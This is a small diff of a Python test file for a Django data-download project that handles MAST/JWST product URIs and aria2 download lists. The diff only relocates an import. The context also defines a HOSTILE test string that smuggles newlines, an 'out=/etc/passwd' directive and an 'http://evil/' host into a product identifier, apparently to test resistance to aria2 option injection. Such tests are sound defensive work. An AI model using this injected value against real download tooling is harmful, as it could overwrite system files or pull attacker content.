@@ -17,8 +17,8 @@ from basket.pipeline.freezing import references_of
 from basket.ways.lists import Listed, _aria2, list_of, list_of_bundle
 from mastportal.files import fetching
 from tests.archive import Sandbox
+from tests.basket.make import only
 from tests.basket.test_api import error
-from tests.basket.test_bundles import only
 
 pytestmark = pytest.mark.django_db(transaction=True)
 HOSTILE = "mast:JWST/product/a b\n  out=/etc/passwd\r\thttp://evil/#x_cal.fits"
